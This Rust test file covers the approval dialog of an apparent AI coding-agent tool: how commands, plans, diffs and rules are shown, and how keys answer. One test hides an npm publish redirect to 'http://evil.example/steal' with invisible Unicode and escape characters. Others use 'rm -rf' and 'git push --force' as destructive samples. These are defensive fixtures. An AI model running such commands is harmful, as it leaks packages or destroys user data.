//! Tests of the approval dialog: what it shows and how keys answer it.

use parallax_protocol::budget::{BudgetKind, ExhaustedBudget};
use parallax_protocol::event::Question;
use parallax_protocol::ids::{ApprovalId, CallId};
use parallax_protocol::policy::{Decision, PolicyDecision};
use parallax_protocol::tool::ToolKind;
use parallax_screen::KeyCode;

use super::*;
use crate::theme::Theme;

mod in_view;

fn plain(char: char) -> Key {
    Key::plain(KeyCode::Char(char))
}

fn ask() -> Box<ApprovalRequest> {
    let rule = |prefix: &str| SuggestedRule {
        tool_name: "run_shell_command".to_owned(),
        command_prefix: vec![prefix.to_owned()],
        ..SuggestedRule::default()
    };
    Box::new(ApprovalRequest {
        id: ApprovalId::new("ask-1"),
        call: CallId::new("call-1"),
        agent: None,
        name: "run_shell_command".to_owned(),
        kind: ToolKind::Execute,
        title: "cargo test".to_owned(),
        preview: Some(Preview::Command {
            command: "cargo test --workspace\n\u{1b}[2Jecho".to_owned(),
            directory: "/p".into(),
        }),
        policy_decision: PolicyDecision::new(
            Decision::Ask,
            "built-in: shell",
            "commands require approval",
        ),
        outcomes: vec![
            ApprovalResponse::ProceedOnce,
            ApprovalResponse::ProceedAlways,
            ApprovalResponse::ProceedAlwaysAndSave,
            ApprovalResponse::Cancel,
        ],
        question: Question::Exec,
        rules: vec![rule("cargo test"), rule("cargo")],
        no_rule_reason: None,
        permissions: parallax_protocol::permissions::Permissions::default(),
        broader_permissions: parallax_protocol::permissions::Permissions::default(),
        not_undoable: Vec::new(),
    })
}

fn press(dialog: &mut QuestionDialog, key: Key) -> QuestionAnswer {
    dialog.key(DialogKey::from_default_key(key), key)
}

#[test]
fn invisible_characters_cannot_hide_parts_of_the_command() {
    let mut rules: Vec<(String, Preview)> = Vec::new();
    let hidden =
        ['\u{202e}', '\u{2066}', '\u{1b}', '\r', '\u{9b}', '\u{200b}', '\u{e0041}', '\u{3164}'];
    for hidden in hidden {
        let symbols = ["U+202E", "U+2066", "␛", "␍", "U+009B", "U+200B", "U+E0041", "U+3164"];
        let plan = format!("# Plan\n\n- delete{hidden}all\n\n```sh\nrm{hidden}x\n```\n");
        let mut ask = ask();
        ask.question = Question::ExitPlanMode;
        ask.preview = Some(Preview::Plan { text: plan, path: "/p/plan.md".into() });
        let rows = QuestionDialog::new(ask).view(80, 60, 1, &Theme::default()).rows;
        let shown: String = rows.iter().map(Line::text).collect();
        let found: usize = symbols.iter().map(|symbol| shown.matches(symbol).count()).sum();
        assert_eq!(found, 2, "{hidden:?}: {shown}");
        let text = format!("v1{}", hidden.to_string().repeat(45));
        let command = format!("npm publish --tag '{text}' --registry=http://evil.example/steal");
        let preview = Preview::Command { command, directory: format!("/p/{text}/dir").into() };
        rules.push(("--registry=http://evil.example/steal /dir".to_owned(), preview));
        let preview = Preview::Urls {
            prompt: format!("see {text} secret-prompt"),
            urls: vec![format!("http://a.example/{text}/secret-url")],
        };
        rules.push(("secret-prompt secret-url".to_owned(), preview));
        let mut arguments = parallax_protocol::Object::new();
        arguments.insert(format!("name{text}"), format!("{text} secret-value").into());
        let preview = Preview::Mcp {
            server: format!("s{text}secret-server"),
            tool: format!("t{text}secret-tool"),
            description: format!("d{text} secret-description"),
            arguments,
        };
        let expected = "secret-server secret-tool secret-description secret-value";
        rules.push((expected.to_owned(), preview));
    }
    for (expected, preview) in rules {
        let mut ask = ask();
        ask.preview = Some(preview);
        let dialog = QuestionDialog::new(ask);
        for width in [40, 80] {
            let rows = dialog.view(width, 200, 1, &Theme::default()).rows;
            assert!(rows.iter().all(|row| row.width() <= width));
            let shown: String = rows.iter().map(|row| row.text().trim().to_owned()).collect();
            for word in expected.split(' ') {
                assert!(shown.contains(word), "{word} at {width}: {shown}");
            }
        }
    }
}

#[test]
fn loop_dialog_says_what_repeats_once() {
    let detail = "`empty` of `two` was called 8 times with the same result".to_owned();
    let dialog = QuestionDialog::new(Box::new(ApprovalRequest::for_session(
        ApprovalId::new("loop-1"),
        "loop",
        detail.clone(),
        PolicyDecision::new(Decision::Ask, "the-rule", detail),
        Question::Loop,
        vec![ApprovalResponse::ProceedAlways, ApprovalResponse::Cancel],
    )));
    let rows = dialog.view(80, 24, 1, &Theme::default()).rows;
    let text: Vec<String> = rows.iter().map(|row| row.text().trim_end().to_owned()).collect();
    let found: Vec<&String> = text.iter().filter(|row| row.contains("8 times")).collect();
    assert_eq!(found, ["empty of two was called 8 times with the same result."], "{text:#?}");
}

#[test]
fn saved_rule_equals_the_shown_rule() {
    let mut dialog = QuestionDialog::new(ask());
    press(&mut dialog, Key::plain(KeyCode::Right));
    let text_rows: String =
        dialog.view(80, 30, 1, &Theme::default()).rows.iter().map(Line::text).collect();
    assert!(text_rows.contains("`cargo …`") && !text_rows.contains("`cargo test"), "{text_rows}");
    press(&mut dialog, plain('e'));
    for char in " build".chars() {
        press(&mut dialog, plain(char));
    }
    press(&mut dialog, Key::plain(KeyCode::Enter));
    let QuestionAnswer::Decided(decide) = press(&mut dialog, plain('3')) else {
        panic!("not decided");
    };
    assert_eq!(decide.outcome, ApprovalResponse::ProceedAlwaysAndSave);
    assert_eq!(decide.scope, Some(RuleScope::Project));
    assert_eq!(decide.rule.expect("a rule").command_prefix, ["cargo build"]);
}

#[test]
fn command_is_shown_first_regardless_of_length() {
    let mut question = ask();
    let commands: Vec<String> = (0..30).map(|part| format!("echo part{part}")).collect();
    question.policy_decision.parts =
        commands.iter().map(|command| format!("runs {command}")).collect();
    question.policy_decision.parts.push("writes to /tmp/out.txt".to_owned());
    question.preview = Some(Preview::Command {
        command: format!("cd calc && {} > /tmp/out.txt", commands.join(" && ")),
        directory: "/p".into(),
    });
    question.rules.clear();
    question.outcomes = vec![ApprovalResponse::ProceedOnce, ApprovalResponse::Cancel];
    question.no_rule_reason =
        Some("it runs 31 commands, but a rule can name at most 8 at most".to_owned());
    let mut dialog = QuestionDialog::new(question);
    let rows = |dialog: &QuestionDialog| -> Vec<String> {
        let rows = dialog.view(80, 22, 1, &Theme::default()).rows;
        rows.iter().map(|row| row.text().trim().to_owned()).collect()
    };
    let first = rows(&dialog);
    assert!(first[2].starts_with("$ cd calc && echo part0"), "{first:#?}");
    for text in
        ["runs 30 commands, writes 1 file", "It cannot be allowed permanently: it runs 31 commands"]
    {
        assert!(first.iter().any(|row| row.contains(text)), "{text}: {first:#?}");
    }
    for _ in 0..9 {
        press(&mut dialog, Key::plain(KeyCode::PageDown));
    }
    assert!(rows(&dialog).contains(&"· writes to /tmp/out.txt".to_owned()), "{:#?}", rows(&dialog));
}

#[test]
fn command_is_shown_after_a_multiline_description() {
    let mut question = ask();
    question.preview = Some(Preview::Command {
        command: format!("ls{}rm -rf x", "\n".repeat(24)),
        directory: "/p".into(),
    });
    question.policy_decision.parts = vec!["runs `ls`".to_owned(), "runs `rm -rf x`".to_owned()];
    let dialog = QuestionDialog::new(question);
    let rows: Vec<String> = dialog
        .view(80, 24, 1, &Theme::default())
        .rows
        .iter()
        .map(|row| row.text().trim().to_owned())
        .collect();
    let index = |text: &str| rows.iter().position(|row| row == text);
    assert!(index("· runs `rm -rf x`") > index("$ ls") && index("$ ls").is_some(), "{rows:?}");
    assert_eq!(index("(23 empty lines)").map(|at| at + 1), index("rm -rf x"), "{rows:?}");
}

#[test]
fn broader_permissions_are_a_separate_choice_after_the_requested_ones() {
    let write = |path: &str| parallax_protocol::permissions::Permissions {
        file_system: parallax_protocol::permissions::FilePermissions {
            read: Vec::new(),
            write: vec![path.into()],
        },
        ..Default::default()
    };
    let mut question = ask();
    question.permissions = write("/var/tmp/aa/c.txt");
    question.broader_permissions = write("/var/tmp");
    let mut dialog = QuestionDialog::new(question);
    let rows = dialog.view(100, 30, 1, &Theme::default()).rows;
    let rows: Vec<String> = rows.iter().map(|row| row.text().trim_end().to_owned()).collect();
    for text in [
        "  requires permission to write /var/tmp/aa/c.txt",
        "❯ 1. Yes, allow once, with permission to write /var/tmp/aa/c.txt",
        "  2. Yes, allow once with more permissions: permission to write /var/tmp",
    ] {
        assert!(rows.iter().any(|row| row == text), "{text}: {rows:#?}");
    }
    for (key, broader_permissions) in [('1', false), ('2', true)] {
        let QuestionAnswer::Decided(decide) = press(&mut dialog, plain(key)) else {
            panic!("not decided");
        };
        assert_eq!(
            (decide.outcome, decide.broader_permissions),
            (ApprovalResponse::ProceedOnce, broader_permissions)
        );
    }
}

#[test]
fn only_active_keys_are_shown() {
    let mut server = ask();
    server.question = Question::Mcp;
    server.preview = None;
    server.outcomes = vec![
        ApprovalResponse::ProceedOnce,
        ApprovalResponse::ProceedAlwaysTool,
        ApprovalResponse::ProceedAlwaysServer,
        ApprovalResponse::Cancel,
    ];
    server.rules = vec![
        SuggestedRule { tool_name: "mcp_s_t".to_owned(), ..SuggestedRule::default() },
        SuggestedRule { tool_name: "*".to_owned(), ..SuggestedRule::default() },
    ];
    let text = |dialog: &QuestionDialog| -> String {
        dialog.view(80, 30, 1, &Theme::default()).rows.iter().map(Line::text).collect()
    };
    let mut dialog = QuestionDialog::new(server.clone());
    let shown = text(&dialog);
    assert!(shown.contains("this session: mcp_s_t") && shown.contains("this session: all tools"));
    press(&mut dialog, plain('e'));
    for key in "a.b".chars() {
        press(&mut dialog, plain(key));
    }
    assert!(text(&dialog).contains("regular expression"), "{}", text(&dialog));
    press(&mut dialog, Key::plain(KeyCode::Enter));
    let QuestionAnswer::Decided(decide) = press(&mut dialog, plain('2')) else {
        panic!("not decided");
    };
    assert_eq!(decide.outcome, ApprovalResponse::ProceedAlwaysTool);
    assert_eq!(decide.rule.and_then(|rule| rule.args_pattern).as_deref(), Some("a.b"));
    // Without a rule there is nothing to edit.
    server.rules.clear();
    server.outcomes = vec![ApprovalResponse::ProceedOnce, ApprovalResponse::Cancel];
    assert!(!text(&QuestionDialog::new(server)).contains("edit the rule"));
    // The answer under the cursor allows the call once.
    let mut dialog = QuestionDialog::new(ask());
    assert!(!text(&dialog).contains("edit the rule") && !text(&dialog).contains("broader"));
    press(&mut dialog, Key::plain(KeyCode::Down));
    assert!(text(&dialog).contains("←→ narrower or broader · e edit the rule"));
    assert!(!text(&dialog).contains("tab all projects"));
    press(&mut dialog, Key::plain(KeyCode::Down));
    assert!(text(&dialog).contains("tab all projects"), "{}", text(&dialog));
}

#[test]
fn feedback_is_sent_with_a_denial() {
    let mut dialog = QuestionDialog::new(ask());
    press(&mut dialog, plain('4'));
    for char in "use nextest".chars() {
        press(&mut dialog, plain(char));
    }
    let QuestionAnswer::Decided(decide) = press(&mut dialog, Key::plain(KeyCode::Enter)) else {
        panic!("not decided");
    };
    assert_eq!(decide.outcome, ApprovalResponse::Cancel);
    assert_eq!(decide.feedback.as_deref(), Some("use nextest"));
}

#[test]
fn tool_is_shown_by_its_display_name() {
    let mut edit = ask();
    "replace".clone_into(&mut edit.name);
    "Edit src/a.rs".clone_into(&mut edit.title);
    (edit.question, edit.preview) = (Question::Edit, None);
    let rows = QuestionDialog::new(edit).view(60, 20, 1, &Theme::default()).rows;
    assert!(rows.iter().any(|row| row.text() == "Edit src/a.rs"), "{rows:?}");
}

#[test]
fn plan_is_shown_scrolled_and_answered() {
    let mut plan = ask();
    plan.question = Question::ExitPlanMode;
    plan.preview = Some(Preview::Plan {
        path: "/p/plans/x.md".into(),
        text: (0..99).map(|step| format!("- **step** {step}\n")).collect(),
    });
    plan.rules.clear();
    plan.outcomes = vec![
        ApprovalResponse::ProceedOnce,
        ApprovalResponse::ProceedAlways,
        ApprovalResponse::ModifyWithEditor,
        ApprovalResponse::Cancel,
    ];
    let mut dialog = QuestionDialog::new(plan.clone());
    let text = |dialog: &QuestionDialog| -> Vec<String> {
        dialog.view(60, 24, 1, &Theme::default()).rows.iter().map(Line::text).collect()
    };
    let rows = text(&dialog);
    assert!(rows.iter().any(|row| row.contains("step 0") && !row.contains("**")), "{rows:?}");
    assert!(rows.iter().any(|row| row.contains("1. Yes, and auto-approve edits")), "{rows:?}");
    press(&mut dialog, Key::plain(KeyCode::PageDown));
    assert!(!text(&dialog).iter().any(|row| row.ends_with("step 0")));
    assert!(matches!(press(&mut dialog, Key::ctrl('x')), QuestionAnswer::Edit));
    for (key, outcome) in
        [('1', ApprovalResponse::ProceedAlways), ('2', ApprovalResponse::ProceedOnce)]
    {
        let mut dialog = QuestionDialog::new(plan.clone());
        let QuestionAnswer::Decided(decide) = press(&mut dialog, plain(key)) else {
            panic!("not decided");
        };
        assert_eq!(decide.outcome, outcome);
    }
}

#[test]
fn fallback_is_accepted_once_permanently_or_declined() {
    let mut question = ask();
    question.question = Question::Fallback;
    question.preview = None;
    question.rules.clear();
    question.outcomes = vec![
        ApprovalResponse::ProceedOnce,
        ApprovalResponse::ProceedAlways,
        ApprovalResponse::Retry,
        ApprovalResponse::Cancel,
    ];
    for (key, outcome) in ['1', '2', '3', '4'].into_iter().zip(question.outcomes.clone()) {
        let mut dialog = QuestionDialog::new(question.clone());
        let QuestionAnswer::Decided(decide) = press(&mut dialog, plain(key)) else {
            panic!("not decided");
        };
        assert_eq!(decide.outcome, outcome);
    }
}

#[test]
fn budget_is_raised_by_the_same_or_another_amount() {
    let mut question = ask();
    question.question = Question::Budget;
    question.preview = Some(Preview::Budget(ExhaustedBudget {
        kind: BudgetKind::Tokens,
        scope: parallax_protocol::budget::BudgetScope::Session,
        limit: 1000.0,
        used: 1200.0,
    }));
    question.rules.clear();
    question.outcomes = vec![ApprovalResponse::ProceedOnce, ApprovalResponse::Cancel];
    let mut dialog = QuestionDialog::new(question.clone());
    let rows = dialog.view(60, 24, 1, &Theme::default()).rows;
    assert!(rows.iter().any(|row| row.text().contains("1. Yes, with 1000 tokens more")));
    let QuestionAnswer::Decided(decide) = press(&mut dialog, plain('1')) else {
        panic!("not decided");
    };
    assert_eq!((decide.outcome, decide.increase), (ApprovalResponse::ProceedOnce, None));
    let mut dialog = QuestionDialog::new(question);
    press(&mut dialog, plain('2'));
    press(&mut dialog, plain('x'));
    assert!(matches!(press(&mut dialog, Key::plain(KeyCode::Enter)), QuestionAnswer::Stay));
    let rows = dialog.view(60, 24, 1, &Theme::default()).rows;
    assert!(rows.iter().any(|row| row.text().contains("50000, 50k or 2m")), "{rows:?}");
    press(&mut dialog, Key::plain(KeyCode::Backspace));
    dialog.paste("20k");
    let QuestionAnswer::Decided(decide) = press(&mut dialog, Key::plain(KeyCode::Enter)) else {
        panic!("not decided");
    };
    assert_eq!(decide.increase, Some(20_000.0));
}

#[test]
fn choices_stay_visible_below_a_long_command() {
    let mut long = ask();
    long.preview = Some(Preview::Command {
        command: (0..200).map(|line| format!("echo {line}\n")).collect(),
        directory: "/p".into(),
    });
    let mut dialog = QuestionDialog::new(long);
    for height in [2, 4, 6, 9, 12, 20, 40] {
        let view = dialog.view(30, height, 1, &Theme::default());
        assert!(view.rows.len() <= height);
        let rows: Vec<String> = view.rows.iter().map(Line::text).collect();
        assert!(rows.iter().any(|row| row.contains("❯ 1. Yes, allow once")), "{height}: {rows:?}");
    }
    press(&mut dialog, Key::plain(KeyCode::Up));
    let rows = dialog.view(30, 4, 1, &Theme::default()).rows;
    assert!(rows.iter().any(|row| row.text().contains("❯ 5. No")));
    let rows = |dialog: &QuestionDialog| -> Vec<String> {
        let rows = dialog.view(60, 20, 1, &Theme::default()).rows;
        rows.iter().map(Line::text).filter(|row| row.contains("echo ")).collect()
    };
    // Two pages overlap by one row.
    let before = rows(&dialog);
    press(&mut dialog, Key::plain(KeyCode::PageDown));
    let after = rows(&dialog);
    assert_eq!(before.last().map(|row| row.trim()), after.first().map(|row| row.trim()));
    press(&mut dialog, Key::plain(KeyCode::PageUp));
    assert_eq!(rows(&dialog), before);
}

#[test]
fn small_window_shows_the_file_and_scroll_position() {
    let rows = |dialog: &QuestionDialog, width, height| -> Vec<String> {
        let view = dialog.view(width, height, 1, &Theme::default());
        view.rows.iter().map(Line::text).collect()
    };
    let mut long = ask();
    long.preview = Some(Preview::Command {
        command: (0..40).map(|line| format!("echo {line}\n")).collect(),
        directory: "/p".into(),
    });
    for (width, height) in [(39, 8), (19, 5)] {
        let mut dialog = QuestionDialog::new(long.clone());
        let before = rows(&dialog, width, height);
        let echoes = before.iter().filter(|row| row.contains("echo")).count();
        assert!(echoes > 1 && before.iter().any(|row| row.starts_with("❯ 1.")), "{before:?}");
        // The 40 lines of the command are followed by its directory and the commands it runs.
        assert!(before[0].contains(" ↓") && !before[0].contains('↑'), "{before:?}");
        press(&mut dialog, Key::plain(KeyCode::PageDown));
        let after = rows(&dialog, width, height);
        assert!(after[1].trim() == format!("echo {echoes}"), "a page, not a row: {after:?}");
        for _ in 1..6 {
            press(&mut dialog, Key::plain(KeyCode::Down));
            let rows = rows(&dialog, width, height);
            assert!(rows.len() <= height && rows.iter().any(|row| row.starts_with('❯')));
        }
    }
    let mut edit = ask();
    edit.question = Question::Edit;
    edit.preview = Some(Preview::Diff(parallax_protocol::tool::FileDiff {
        file_path: "/p/src/notes.txt".into(),
        diff: "@@ -1,2 +1,2 @@\n-one\n+ONE\n-two\n+TWO\n".to_owned(),
        lines_added: 2,
        lines_removed: 2,
        is_new_file: false,
        texts: None,
    }));
    let rows = rows(&QuestionDialog::new(edit), 19, 5);
    assert!(rows[0].starts_with("? notes.txt"), "{rows:?}");
}

#[test]
fn parts_are_separated_by_an_empty_row_if_it_fits() {
    let mut dialog = QuestionDialog::new(ask());
    let rows = |dialog: &QuestionDialog, height| -> Vec<String> {
        let rows = dialog.view(80, height, 1, &Theme::default()).rows;
        rows.iter().map(|row| row.text().trim_end().to_owned()).collect()
    };
    let gaps = |rows: &[String]| rows.iter().filter(|row| row.is_empty()).count();
    let airy = rows(&dialog, 30);
    assert_eq!((airy[1].as_str(), gaps(&airy)), ("", 4), "{airy:#?}");
    let whole = airy.len();
    for missing in 1..=4 {
        let rows = rows(&dialog, whole - missing);
        assert_eq!((rows.len(), gaps(&rows)), (whole - missing, 4 - missing), "{rows:#?}");
    }
    // The rule is shown with a key.
    let names_rule =
        |dialog: &QuestionDialog| rows(dialog, 30).iter().any(|row| row == "Rule: built-in: shell");
    assert!(!names_rule(&dialog));
    press(&mut dialog, plain('?'));
    assert!(names_rule(&dialog), "{:#?}", rows(&dialog, 30));
}

#[test]
fn selected_choice_is_inverse() {
    let dialog = QuestionDialog::new(ask());
    let theme = Theme::default();
    let rows = dialog.view(80, 30, 1, &theme).rows;
    let selected: Vec<&Line> = rows
        .iter()
        .filter(|row| row.spans.iter().any(|span| span.style == theme.selected))
        .collect();
    assert_eq!(selected.len(), 1);
    assert!(selected[0].text().starts_with("❯ 1. ") && selected[0].width() == 80);
}

#[test]
fn exact_command_rule_is_shown_only_on_its_choice() {
    let mut question = ask();
    question.rules.truncate(1);
    question.rules[0].command_prefix = vec!["cargo test --workspace $".to_owned()];
    question.rules[0].modes = vec![
        parallax_protocol::policy::ApprovalMode::Default,
        parallax_protocol::policy::ApprovalMode::AutoEdit,
        parallax_protocol::policy::ApprovalMode::Yolo,
    ];
    let mut dialog = QuestionDialog::new(question);
    let rows = |dialog: &QuestionDialog| -> Vec<String> {
        let rows = dialog.view(80, 30, 1, &Theme::default()).rows;
        rows.iter().map(|row| row.text().trim().to_owned()).collect()
    };
    let first = rows(&dialog);
    assert!(first.contains(&"2. Yes, allow for this session: this exact command".to_owned()));
    assert!(!first.iter().any(|row| row.contains("plan mode")), "{first:#?}");
    press(&mut dialog, Key::plain(KeyCode::Down));
    let rule = "Rule: exactly `cargo test --workspace`, not in plan mode".to_owned();
    assert!(rows(&dialog).contains(&rule), "{:#?}", rows(&dialog));
}

#[test]
fn destructive_command_has_the_danger_color() {
    let mut question = ask();
    question.policy_decision.destructive = vec!["rm -rf src".to_owned()];
    question.policy_decision.always_ask = true;
    question.policy_decision.reason = "`rm -rf src` deletes more than one file".to_owned();
    question.no_rule_reason = Some("this always requires approval".to_owned());
    question.rules.clear();
    question.outcomes = vec![ApprovalResponse::ProceedOnce, ApprovalResponse::Cancel];
    question.preview = Some(Preview::Command {
        command: "cd a && rm -rf src && ls".to_owned(),
        directory: "/p".into(),
    });
    let theme = Theme::default();
    let rows = QuestionDialog::new(question).view(80, 30, 1, &theme).rows;
    let danger: String = rows
        .iter()
        .flat_map(|row| &row.spans)
        .filter(|span| span.style == theme.error.bold())
        .map(|span| span.text.as_ref())
        .collect();
    assert_eq!(danger, "rm -rf srcrm -rf src", "the reason and the command");
    assert!(
        rows.iter().any(|row| row.text().ends_with("file. It needs approval each time.")),
        "{rows:?}"
    );
}

#[test]
fn scroll_position_and_keys_have_the_same_format_in_all_windows() {
    let mut long = ask();
    long.preview = Some(Preview::Command {
        command: (0..40).map(|line| format!("echo {line}\n")).collect(),
        directory: "/p".into(),
    });
    let mut dialog = QuestionDialog::new(long);
    dialog.view(49, 13, 1, &Theme::default());
    press(&mut dialog, Key::plain(KeyCode::PageDown));
    for (width, height) in [(49, 8), (79, 8), (79, 20)] {
        let rows = dialog.view(width, height, 1, &Theme::default()).rows;
        let text = rows.iter().map(Line::text).collect::<Vec<_>>().join("\n");
        assert!(text.contains('↑') && text.contains('↓'), "{text}");
        let is_low = height < crate::tokens::LOW;
        assert!(text.contains("page up/down") || (width < 60 && is_low), "{text}");
    }
    // Below a title in a window that is not the lowest, the keys are in the hint.
    dialog.choices.extend([Choice::Hunks, Choice::Editor]);
    let rows = dialog.view(49, 13, 1, &Theme::default()).rows;
    let hint = rows.last().map(Line::text).unwrap_or_default();
    assert_eq!(hint, "page up/down · ? why · esc no", "{rows:#?}");
}

#[test]
fn mcp_tool_name_is_shown_once() {
    let mut question = ask();
    question.question = Question::Mcp;
    "mcp_tracker_create_issue".clone_into(&mut question.name);
    r#"create_issue (tracker MCP Server) {"title":"x"}"#.clone_into(&mut question.title);
    question.preview = Some(Preview::Mcp {
        server: "tracker".to_owned(),
        tool: "create_issue".to_owned(),
        description: "Creates an issue".to_owned(),
        arguments: serde_json::from_str(r#"{"title": "x"}"#).expect("an object"),
    });
    for height in [8, 30] {
        let rows =
            QuestionDialog::new(question.clone()).view(80, height, 1, &Theme::default()).rows;
        let named: Vec<String> =
            rows.iter().map(Line::text).filter(|row| row.contains("create_issue")).collect();
        assert_eq!(named, ["  create_issue of the MCP server tracker"], "{rows:?}");
    }
}

#[test]
fn only_hidden_rows_are_counted() {
    let mut long = ask();
    long.preview = Some(Preview::Command {
        command: (0..60).map(|line| format!("echo {line}\n")).collect(),
        directory: "/p".into(),
    });
    let mut dialog = QuestionDialog::new(long);
    let position_text = |dialog: &QuestionDialog| -> String {
        let rows = dialog.view(80, 30, 1, &Theme::default()).rows;
        rows.iter().map(Line::text).find(|row| row.contains("page up/down")).unwrap_or_default()
    };
    assert!(
        !position_text(&dialog).contains('↑') && position_text(&dialog).contains('↓'),
        "{}",
        position_text(&dialog)
    );
    press(&mut dialog, Key::plain(KeyCode::PageDown));
    assert!(
        position_text(&dialog).contains('↑') && position_text(&dialog).contains('↓'),
        "{}",
        position_text(&dialog)
    );
}

#[test]
fn saved_rule_applies_to_the_project_until_tab_widens_it() {
    for (tabs, scope, words) in [
        (0, RuleScope::Project, "always allow in this project: "),
        (1, RuleScope::Always, "always allow in all projects: "),
        (2, RuleScope::Project, "always allow in this project: "),
    ] {
        let mut dialog = QuestionDialog::new(ask());
        for _ in 0..tabs {
            press(&mut dialog, Key::plain(KeyCode::Tab));
        }
        let rows = dialog.view(100, 30, 1, &Theme::default()).rows;
        assert!(rows.iter().any(|row| row.text().contains(words)), "{tabs}: {rows:?}");
        let QuestionAnswer::Decided(decide) = press(&mut dialog, plain('3')) else {
            panic!("not decided");
        };
        assert_eq!(decide.outcome, ApprovalResponse::ProceedAlwaysAndSave);
        assert_eq!(decide.scope, Some(scope));
    }
}

#[test]
fn answers_are_short_instead_of_truncated_in_a_low_window() {
    let mut question = ask();
    question.question = Question::Edit;
    question.kind = ToolKind::Edit;
    question.preview = Some(Preview::Diff(parallax_protocol::tool::FileDiff {
        file_path: "/p/src/retry.rs".into(),
        diff: "@@ -1,1 +1,1 @@\n-a\n+b\n".to_owned(),
        lines_added: 1,
        lines_removed: 1,
        is_new_file: false,
        texts: None,
    }));
    question.rules = vec![SuggestedRule {
        tool_name: "replace".to_owned(),
        path_glob: Some("src/retry.rs".to_owned()),
        ..SuggestedRule::default()
    }];
    question.outcomes = vec![
        ApprovalResponse::ProceedOnce,
        ApprovalResponse::ProceedAlways,
        ApprovalResponse::ModifyWithEditor,
        ApprovalResponse::Cancel,
    ];
    let dialog = QuestionDialog::new(question);
    let rows = dialog.view(40, 10, 1, &Theme::default()).rows;
    let rows: Vec<String> = rows.iter().map(|row| row.text().trim_end().to_owned()).collect();
    for answer in [
        "  2. Yes, and switch to auto-edit mode",
        "  3. Yes, all edits to this file",
        "  4. Edit it first",
        "  5. No, and say what to do",
        "  6. No (esc)",
    ] {
        assert!(rows.iter().any(|row| row == answer), "{answer}: {rows:#?}");
    }
}

#[test]
fn all_seven_answers_stay_in_view_below_a_change_whichever_is_selected() {
    let mut question = ask();
    question.question = Question::Edit;
    question.kind = ToolKind::Edit;
    question.name = "write_file".to_owned();
    question.preview = Some(Preview::Diff(parallax_protocol::tool::FileDiff {
        file_path: "/p/src/new.rs".into(),
        diff: "@@ -0,0 +1,3 @@\n+a\n+b\n+c\n".to_owned(),
        lines_added: 3,
        lines_removed: 0,
        is_new_file: true,
        texts: None,
    }));
    question.rules = vec![SuggestedRule {
        tool_name: "write_file".to_owned(),
        path_glob: Some("src/new.rs".to_owned()),
        modes: vec![parallax_protocol::policy::ApprovalMode::Default],
        ..SuggestedRule::default()
    }];
    question.outcomes = vec![
        ApprovalResponse::ProceedOnce,
        ApprovalResponse::ProceedAlways,
        ApprovalResponse::ProceedAlwaysAndSave,
        ApprovalResponse::ModifyWithEditor,
        ApprovalResponse::Cancel,
    ];
    let mut dialog = QuestionDialog::new(question);
    for selected in 1..=7 {
        let rows = dialog.view(49, 13, 1, &Theme::default()).rows;
        let rows: Vec<String> = rows.iter().map(Line::text).collect();
        for answer in 1..=7 {
            let is_it = |row: &String| row.contains(&format!(" {answer}. "));
            assert!(rows.iter().any(is_it), "{selected}: {answer} of {rows:#?}");
        }
        assert!(rows.len() <= 13, "{rows:#?}");
        press(&mut dialog, Key::plain(KeyCode::Down));
    }
}

#[test]
fn all_answers_are_in_view_in_a_window_of_fifteen_rows() {
    let mut question = ask();
    question.question = Question::Mcp;
    question.kind = ToolKind::Other;
    let mut arguments = parallax_protocol::Object::new();
    arguments.insert("body".to_owned(), "line\n".repeat(12).into());
    question.preview = Some(Preview::Mcp {
        server: "tracker".to_owned(),
        tool: "create_issue".to_owned(),
        description: "Creates an issue.".to_owned(),
        arguments,
    });
    question.outcomes = vec![
        ApprovalResponse::ProceedOnce,
        ApprovalResponse::ProceedAlwaysTool,
        ApprovalResponse::ProceedAlwaysServer,
        ApprovalResponse::ProceedAlwaysAndSave,
        ApprovalResponse::Cancel,
    ];
    let dialog = QuestionDialog::new(question);
    for height in [11, 13, 15] {
        let rows = dialog.view(49, height, 1, &Theme::default()).rows;
        let rows: Vec<String> = rows.iter().map(|row| row.text().trim_end().to_owned()).collect();
        assert!(rows.iter().any(|row| row == "  6. No (esc)"), "{height}: {rows:#?}");
        let arguments = rows.iter().filter(|row| row.trim() == "line").count();
        assert!(arguments > 0, "{height}: {rows:#?}");
    }
}

#[test]
fn approval_text_names_every_destructive_command() {
    let both = ["rm -rf src".to_owned(), "git push --force".to_owned()];
    for (reason, destructive, expected) in [
        (
            "`rm -rf src` deletes more than one file",
            &both[..],
            Some("Also destructive: `git push --force`."),
        ),
        ("`rm -rf src` deletes more than one file", &both[..1], None),
        ("The command line cannot be analyzed", &both[..1], Some("Destructive: `rm -rf src`.")),
    ] {
        let mut ask = ask();
        ask.policy_decision.reason = reason.to_owned();
        ask.policy_decision.destructive = destructive.to_vec();
        ask.policy_decision.always_ask = true;
        let rows = QuestionDialog::new(ask).view(80, 30, 1, &Theme::default()).rows;
        let rows: Vec<String> = rows.iter().map(|row| row.text().trim().to_owned()).collect();
        assert_eq!(rows[2], format!("{reason}.").replace('`', ""), "{rows:#?}");
        assert_eq!(expected.unwrap_or_default().replace('`', ""), rows[3], "{rows:#?}");
    }
}
